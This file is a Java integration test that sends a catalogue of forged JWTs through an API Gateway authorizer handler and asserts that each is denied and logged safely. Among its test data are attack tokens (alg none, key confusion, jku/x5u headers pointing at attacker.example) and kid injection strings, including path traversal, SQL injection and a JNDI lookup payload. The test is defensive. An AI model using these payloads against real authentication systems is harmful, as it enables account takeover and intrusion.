// Level: integration, in-process - the real gate handler (CallGateFunction's wiring and its payload 2.0 authorizer event) facing known JWT attacks; keys from an in-memory secret source, a fixed clock.
package wxlogin.it.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static wxlogin.token.TestTokens.b64url;
import static wxlogin.token.TestTokens.header;
import static wxlogin.token.TestTokens.hs256;
import static wxlogin.token.TestTokens.hs256Raw;
import static wxlogin.token.TestTokens.hs256Segments;
import static wxlogin.token.TestTokens.jose4j;
import static wxlogin.token.TestTokens.utf8;
import static wxlogin.token.TestTokens.validClaims;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2CustomAuthorizerEvent;
import com.amazonaws.services.lambda.runtime.events.SimpleIAMPolicyResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.jose4j.jwk.EcJwkGenerator;
import org.jose4j.jwk.EllipticCurveJsonWebKey;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwk.OctetSequenceJsonWebKey;
import org.jose4j.jwk.RsaJsonWebKey;
import org.jose4j.jwk.RsaJwkGenerator;
import org.jose4j.jws.AlgorithmIdentifiers;
import org.jose4j.jws.JsonWebSignature;
import org.jose4j.jwt.JwtClaims;
import org.jose4j.jwt.NumericDate;
import org.jose4j.keys.EllipticCurves;
import org.jose4j.keys.HmacKey;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import wxlogin.common.Env;
import wxlogin.gate.CallGateHandler;
import wxlogin.testing.SecretLedger;
import wxlogin.testing.FakeContext;
import wxlogin.testing.LogCapture;
import wxlogin.token.SessionTokens;
import wxlogin.token.SigningKey;
import wxlogin.token.TestTokens;

/**
 * Every attack of the issue's list, presented the way API Gateway presents a request to
 * CallGateFunction: an {@link APIGatewayV2CustomAuthorizerEvent} through
 * {@link CallGateHandler#handleRequest}. Each one is denied with {@code isAuthorized: false} and
 * no context, never by an exception (which would turn into a 500), within a bounded time, with one
 * {@code gate.denied} log line that neither repeats the token nor can be split by it. A genuine
 * token is allowed through the same handler, so the denials are not an artefact of the set-up.
 *
 * <p>Not repeated here: TokenVerifierTest (the denial reason of each case at the verifier,
 * canonical base64url, leeway boundaries, RFC 7515 A.1 as a primitive with its key and exact
 * bytes) and CallGateHandlerTest (one token per denial reason through the handler, Authorization
 * schemes, spacing, junk and 5000-character headers, key rotation, unknown-kid floods). This suite
 * adds the attack catalogue through the handler, ES256, empty and blank keys, key confusion with an
 * RSA public key, log injection through {@code kid}, a few header tricks and the RFC 7515 A.1 and
 * A.5 examples presented to the gate.
 */
class HostileTokensThroughTheGateTest {

    private static final long NOW = Instant.parse("2026-11-24T00:00:00Z").getEpochSecond();
    private static final byte[] KEY = utf8("hostile-tokens-gate-key-0123456789-abcdefgh");
    private static final byte[] OLD_KEY = utf8("hostile-tokens-old-key-0123456789-abcdefghij");
    private static final byte[] ATTACKER_KEY = utf8("an-attackers-own-key-0123456789-abcdefghij");
    private static final String KEYS_SECRET = "{\"keys\":[{\"kid\":\"k1\",\"secret\":\"" + new String(KEY, StandardCharsets.UTF_8)
            + "\"},{\"kid\":\"k0\",\"secret\":\"" + new String(OLD_KEY, StandardCharsets.UTF_8) + "\"}]}";

    /** RFC 7515 Appendix A.1: key and JWS (HS256, iss "joe", no kid, no sub, exp 1300819380). */
    private static final String A1_K =
            "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ-EstJQLr_T-1qS0gZH75aKtMN3Yj0iPS4hcgUuTwjAzZr1Z9CAow";
    private static final String A1_HEADER = "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9";
    private static final String A1_PAYLOAD = "eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFt"
            + "cGxlLmNvbS9pc19yb290Ijp0cnVlfQ";
    private static final String A1 = A1_HEADER + "." + A1_PAYLOAD + ".dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
    /** RFC 7515 Appendix A.5: the unsecured JWS ({"alg":"none"}, same payload, empty signature). */
    private static final String A5 = "eyJhbGciOiJub25lIn0." + A1_PAYLOAD + ".";
    /** A.1's time: the gate must not deny A.1 merely because it expired in 2011. */
    private static final long A1_NOW = 1_300_819_000L;

    private static final Map<String, String> DENIALS = java.util.Collections.synchronizedMap(new java.util.LinkedHashMap<>());
    private static RsaJsonWebKey rsa;
    private static EllipticCurveJsonWebKey ec;
    private LogCapture logs;

    @BeforeAll
    static void keys() throws Exception {
        rsa = RsaJwkGenerator.generateJwk(2048);
        ec = EcJwkGenerator.generateJwk(EllipticCurves.P256);
        SecretLedger.register(SecretLedger.Kind.SIGNING_KEY, new String(KEY, StandardCharsets.UTF_8));
        SecretLedger.register(SecretLedger.Kind.SIGNING_KEY, new String(OLD_KEY, StandardCharsets.UTF_8));
    }

    @BeforeEach
    void captureLogs() {
        logs = new LogCapture();
    }

    @AfterEach
    void releaseLogs() {
        logs.close();
    }

    // ------------------------------------------------------------------ the control

    @Test
    void aGenuineTokenIsAllowedWithItsIdentity() {
        String token = genuine();

        SimpleIAMPolicyResponse answer = gate(NOW, KEYS_SECRET).handleRequest(event("Bearer " + token), new FakeContext());

        assertThat(answer.getIsAuthorized()).isTrue();
        assertThat(answer.getContext()).containsEntry("userId", "user-1").containsEntry("loginType", "weixinApp");
        assertThat(logs.text()).doesNotContain(token);
    }

    // ------------------------------------------------------------------ the attacks

    static Stream<Arguments> attacks() throws Exception {
        List<Arguments> all = new ArrayList<>();
        String claims = validClaims(NOW).toJson();
        String payload = b64url(claims);

        // alg none, in several casings, with an empty, a missing and a real-key signature part.
        for (String alg : List.of("none", "None", "NONE", "nOnE")) {
            String head = b64url("{\"alg\":\"" + alg + "\",\"kid\":\"k1\",\"typ\":\"JWT\"}");
            all.add(attack("alg " + alg + ", empty signature", head + "." + payload + "."));
            all.add(attack("alg " + alg + ", no signature part", head + "." + payload));
            all.add(attack("alg " + alg + ", signed with our own key", hs256Segments(head, payload, KEY)));
        }
        all.add(attack("alg none from jose4j", jose4j(AlgorithmIdentifiers.NONE, "k1", Map.of(), claims, null)));

        // Signatures: empty, stripped, wrong key, empty key, blank key, the other listed key.
        String good = hs256("k1", validClaims(NOW), KEY);
        all.add(attack("empty signature", good.substring(0, good.lastIndexOf('.') + 1)));
        all.add(attack("stripped signature", good.substring(0, good.lastIndexOf('.'))));
        all.add(attack("HS256 with a wrong key", hs256("k1", validClaims(NOW), ATTACKER_KEY)));
        // HMAC pads keys with zeros to 64 bytes: 64 zero bytes is exactly the empty key.
        all.add(attack("HS256 with an empty key", hs256("k1", validClaims(NOW), new byte[64])));
        all.add(attack("HS256 with a blank key", hs256("k1", validClaims(NOW), utf8("   "))));
        all.add(attack("HS256 with the key of another kid", hs256("k1", validClaims(NOW), OLD_KEY)));

        // Asymmetric algorithms, embedded keys, key confusion.
        all.add(attack("RS256", jose4j(AlgorithmIdentifiers.RSA_USING_SHA256, "k1", Map.of(), claims, rsa.getPrivateKey())));
        all.add(attack("ES256", jose4j(AlgorithmIdentifiers.ECDSA_USING_P256_CURVE_AND_SHA256, "k1", Map.of(), claims,
                ec.getPrivateKey())));
        all.add(attack("RS256 with its own public key embedded as jwk", rs256WithEmbeddedJwk(claims)));
        Map<String, Object> attackerJwk = new OctetSequenceJsonWebKey(new HmacKey(ATTACKER_KEY))
                .toParams(JsonWebKey.OutputControlLevel.INCLUDE_SYMMETRIC);
        all.add(attack("HS256 with the attacker's key embedded as jwk",
                jose4j(AlgorithmIdentifiers.HMAC_SHA256, "k1", Map.of("jwk", attackerJwk), claims, new HmacKey(ATTACKER_KEY))));
        all.add(attack("HS256 keyed with an RSA public key (key confusion)",
                hs256("k1", validClaims(NOW), rsa.getPublicKey().getEncoded())));

        // Where to fetch keys from, and critical extensions: denied even with our key.
        for (Map.Entry<String, String> h : Map.of(
                "jku", "\"jku\":\"https://attacker.example/jwks.json\"",
                "x5u", "\"x5u\":\"https://attacker.example/cert.pem\"",
                "crit exp", "\"crit\":[\"exp\"],\"exp\":1",
                "crit b64", "\"crit\":[\"b64\"],\"b64\":false",
                "crit unknown", "\"crit\":[\"urn:attacker:admin\"],\"urn:attacker:admin\":true").entrySet()) {
            all.add(attack(h.getKey() + " header, signed with our key",
                    hs256Raw("{\"alg\":\"HS256\",\"kid\":\"k1\",\"typ\":\"JWT\"," + h.getValue() + "}", claims, KEY)));
            all.add(attack(h.getKey() + " header, signed with the attacker's key",
                    hs256Raw("{\"alg\":\"HS256\",\"kid\":\"k1\",\"typ\":\"JWT\"," + h.getValue() + "}", claims, ATTACKER_KEY)));
        }

        // kid injection, all signed with our key: only the kid is wrong.
        for (String kid : List.of("", "../../../../../../dev/null", "/etc/passwd", "k1/../k1", "' OR '1'='1' --",
                "k1'; DROP TABLE keys; --", "${jndi:ldap://attacker.example/a}", "k1\u0000", "K1", " k1",
                "k1\nINFO gate.allowed userId=admin", "k".repeat(300))) {
            String kidJson = kid.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\u0000", "\\u0000");
            all.add(attack("kid " + printable(kid), hs256Raw("{\"alg\":\"HS256\",\"kid\":\"" + kidJson + "\",\"typ\":\"JWT\"}",
                    claims, KEY)));
        }
        all.add(attack("no kid", hs256Raw("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", claims, KEY)));
        all.add(attack("kid is a number", hs256Raw("{\"alg\":\"HS256\",\"kid\":1,\"typ\":\"JWT\"}", claims, KEY)));

        // Times and issuer, signed with our key.
        all.add(attack("expired an hour ago", signed(c -> {
            c.setIssuedAt(NumericDate.fromSeconds(NOW - 9000));
            c.setExpirationTime(NumericDate.fromSeconds(NOW - 3600));
        })));
        all.add(attack("not valid before an hour from now", signed(c -> c.setNotBefore(NumericDate.fromSeconds(NOW + 3600)))));
        all.add(attack("issued an hour from now", signed(c -> c.setIssuedAt(NumericDate.fromSeconds(NOW + 3600)))));
        all.add(attack("another issuer", signed(c -> c.setIssuer("another-deployment"))));
        all.add(attack("no expiry", signed(c -> c.unsetClaim("exp"))));
        all.add(attack("no subject", signed(c -> c.unsetClaim("sub"))));

        // Changed after signing.
        String[] parts = good.split("\\.");
        all.add(attack("payload changed after signing (sub admin)",
                parts[0] + "." + b64url(claims.replace("user-7f3a", "admin")) + "." + parts[2]));
        all.add(attack("login_type changed after signing",
                parts[0] + "." + b64url(claims.replace("weixinApp", "weixinMiniProgram")) + "." + parts[2]));
        all.add(attack("kid changed after signing", b64url(header("k0")) + "." + parts[1] + "." + parts[2]));

        // Duplicate and non-JSON segments.
        all.add(attack("payload segment twice", parts[0] + "." + parts[1] + "." + parts[1] + "." + parts[2]));
        all.add(attack("signature segment twice", good + "." + parts[2]));
        all.add(attack("header segment twice", parts[0] + "." + good));
        all.add(attack("the token twice, dot-joined", good + "." + good));
        all.add(attack("duplicate sub claim", hs256Raw(header("k1"),
                claims.replace("\"sub\":\"user-7f3a\"", "\"sub\":\"user-7f3a\",\"sub\":\"admin\""), KEY)));
        all.add(attack("duplicate alg header", hs256Raw("{\"alg\":\"none\",\"alg\":\"HS256\",\"kid\":\"k1\",\"typ\":\"JWT\"}",
                claims, KEY)));
        all.add(attack("non-JSON header", hs256Raw("not json", claims, KEY)));
        all.add(attack("non-JSON payload", hs256Raw(header("k1"), "not json at all", KEY)));
        all.add(attack("JSON array payload", hs256Raw(header("k1"), "[\"sub\",\"admin\"]", KEY)));

        // Huge.
        all.add(attack("10 KB token signed with our key", signed(c -> c.setClaim("pad", "p".repeat(7_600)))));
        all.add(attack("1 MB of dots and letters", "a.".repeat(500_000) + "a"));
        all.add(attack("4 KB header segment", hs256Segments("e" + "A".repeat(4_000), payload, KEY)));

        return all.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void isDenied(String name, String token) {
        assertDenied(name, gate(NOW, KEYS_SECRET), "Bearer " + token, token);
    }

    /** Header forms CallGateHandlerTest does not already try (it covers schemes, spacing, junk and length). */
    static Stream<Arguments> headerTricks() {
        String good = genuine();
        return Stream.of(
                Arguments.of("tab instead of space", "Bearer\t" + good, good),
                Arguments.of("two Authorization headers, comma-joined by API Gateway", "Bearer " + good + ",Bearer " + good, good),
                Arguments.of("CR LF and a second header line", "Bearer " + good + "\r\nx-user: admin", good));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("headerTricks")
    void headerTricksAreDenied(String name, String authorization, String token) {
        assertDenied("header: " + name, gate(NOW, KEYS_SECRET), authorization, token);
    }

    @Test
    void aTokenInAnotherHeaderOrInTheQueryIsIgnored() {
        String good = genuine();
        APIGatewayV2CustomAuthorizerEvent event = event(null);
        event.getHeaders().put("x-authorization", "Bearer " + good);
        event.getHeaders().put("x-amzn-oidc-data", good);
        event.setQueryStringParameters(Map.of("access_token", good, "token", good));
        event.setRawQueryString("access_token=" + good);

        SimpleIAMPolicyResponse answer = gate(NOW, KEYS_SECRET).handleRequest(event, new FakeContext());

        assertThat(answer.getIsAuthorized()).isFalse();
        logs.assertLogged("gate.denied", "reason", "NO_BEARER_TOKEN");
        assertThat(logs.text()).doesNotContain(good);
    }

    // ------------------------------------------------------------------ RFC 7515 Appendix A

    @Test
    void rfc7515A1IsDeniedEvenWithItsKeyListedForNoKidWrongIssuerAndNoSubject() throws Exception {
        String a1Key = new String(Base64.getUrlDecoder().decode(A1_K), StandardCharsets.ISO_8859_1);
        // The A.1 key is listed under a kid (a secret string holds text: its bytes as ISO-8859-1 characters,
        // which the gate then keys as UTF-8); the gate's clock is set before A.1's exp.
        ObjectNode keys = (ObjectNode) new ObjectMapper().readTree(KEYS_SECRET);
        ((ArrayNode) keys.get("keys")).addObject().put("kid", "rfc7515-a1").put("secret", a1Key);
        CallGateHandler gate = gate(A1_NOW, keys.toString());
        byte[] a1KeyAsListed = a1Key.getBytes(StandardCharsets.UTF_8);

        assertDenied("RFC 7515 A.1 as published (its key listed)", gate, "Bearer " + A1, A1);
        logs.assertLogged("gate.denied", "reason", "NO_KID");

        // Give A.1's claims a kid: still denied, for its issuer...
        String withKid = "{\"alg\":\"HS256\",\"kid\":\"rfc7515-a1\",\"typ\":\"JWT\"}";
        String a1Claims = new String(Base64.getUrlDecoder().decode(A1_PAYLOAD), StandardCharsets.UTF_8);
        assertDenied("RFC 7515 A.1 claims with a kid, signed with the listed A.1 key", gate,
                "Bearer " + hs256Raw(withKid, a1Claims, a1KeyAsListed), null);
        logs.assertLogged("gate.denied", "reason", "WRONG_ISSUER");

        // ...and with our issuer, for having no subject.
        assertDenied("RFC 7515 A.1 claims with a kid and our issuer", gate, "Bearer " + hs256Raw(withKid,
                a1Claims.replace("\"joe\"", "\"" + TestTokens.ISSUER + "\""), a1KeyAsListed), null);
        logs.assertLogged("gate.denied", "reason", "NO_SUBJECT");
    }

    @Test
    void rfc7515A5UnsecuredIsDenied() {
        assertDenied("RFC 7515 A.5 (unsecured)", gate(A1_NOW, KEYS_SECRET), "Bearer " + A5, A5);
        logs.assertLogged("gate.denied", "reason", java.util.regex.Pattern.compile("MALFORMED|NOT_HS256"));
    }

    // ------------------------------------------------------------------ helpers

    private void assertDenied(String name, CallGateHandler gate, String authorization, String secretPart) {
        int linesBefore = logs.lines().size();
        int textBefore = logs.text().length();
        long start = System.nanoTime();
        SimpleIAMPolicyResponse answer = gate.handleRequest(event(authorization), new FakeContext());
        long millis = (System.nanoTime() - start) / 1_000_000;

        assertThat(answer).isNotNull();
        assertThat(answer.getIsAuthorized()).as("authorized").isFalse();
        assertThat(answer.getContext()).as("context").isNullOrEmpty();
        assertThat(millis).as("decision time").isLessThan(1_000);
        List<JsonNode> newLines = logs.lines().subList(linesBefore, logs.lines().size());
        assertThat(newLines).as("exactly one log line for the decision").hasSize(1);
        assertThat(newLines.get(0).path("event").asText()).isEqualTo("gate.denied");
        assertThat(newLines.get(0).path("level").asText()).isEqualTo("INFO");
        if (secretPart != null && secretPart.length() >= 16) {
            assertThat(logs.text().substring(textBefore)).doesNotContain(secretPart);
        }
        DENIALS.put(name, newLines.get(0).path("reason").asText("?"));
    }

    /** Writes what denied each attack, for RELIABILITY.md: target/reliability/hostile-tokens.md. */
    @AfterAll
    static void writeTable() throws java.io.IOException {
        StringBuilder table = new StringBuilder("| attack (through CallGateHandler) | isAuthorized | gate.denied reason |\n|---|---|---|\n");
        DENIALS.forEach((name, reason) -> table.append("| ").append(name.replace("|", "\\|")).append(" | false | ")
                .append(reason).append(" |\n"));
        java.nio.file.Path dir = java.nio.file.Path.of(System.getProperty("wxlogin.surefireReports",
                "integration-tests/target/surefire-reports")).resolveSibling("reliability");
        java.nio.file.Files.createDirectories(dir);
        java.nio.file.Files.writeString(dir.resolve("hostile-tokens.md"), table);
    }

    private static CallGateHandler gate(long epochSecond, String keysSecret) {
        Map<String, String> env = new HashMap<>();
        env.put("SESSION_KEYS_SECRET_ID", "reliability/hostile-tokens");
        env.put("GATE_POLICY", "{}");
        Clock clock = Clock.fixed(Instant.ofEpochSecond(epochSecond), ZoneOffset.UTC);
        return new CallGateHandler(CallGateHandler.wire(new Env(env), secretId -> keysSecret, clock));
    }

    private static APIGatewayV2CustomAuthorizerEvent event(String authorization) {
        return StandIns.gateEvent(authorization);
    }

    /** A token minted by the project's own SessionTokens with the listed key k1. */
    private static String genuine() {
        String token = new SessionTokens(TestTokens.ISSUER, 7200, Clock.fixed(Instant.ofEpochSecond(NOW), ZoneOffset.UTC))
                .mint(new SigningKey("k1", KEY), "user-1", "wxapp-multi-1", "weixinApp", "o-1", "u-1").token();
        SecretLedger.register(SecretLedger.Kind.SESSION_TOKEN, token);
        return token;
    }

    private static String signed(Consumer<JwtClaims> change) {
        JwtClaims claims = validClaims(NOW);
        change.accept(claims);
        return hs256Raw(header("k1"), claims.toJson(), KEY);
    }

    private static String rs256WithEmbeddedJwk(String claims) throws Exception {
        JsonWebSignature jws = new JsonWebSignature();
        jws.setAlgorithmHeaderValue(AlgorithmIdentifiers.RSA_USING_SHA256);
        jws.setKeyIdHeaderValue("k1");
        jws.setJwkHeader(rsa);
        jws.setPayload(claims);
        jws.setKey(rsa.getPrivateKey());
        return jws.getCompactSerialization();
    }

    private static Arguments attack(String name, String token) {
        return Arguments.of(name, token);
    }

    private static String printable(String text) {
        String shown = text.replace("\n", "\\n").replace("\u0000", "\\0");
        return shown.length() > 40 ? shown.substring(0, 12) + "...(" + shown.length() + " chars)" : "'" + shown + "'";
    }
}
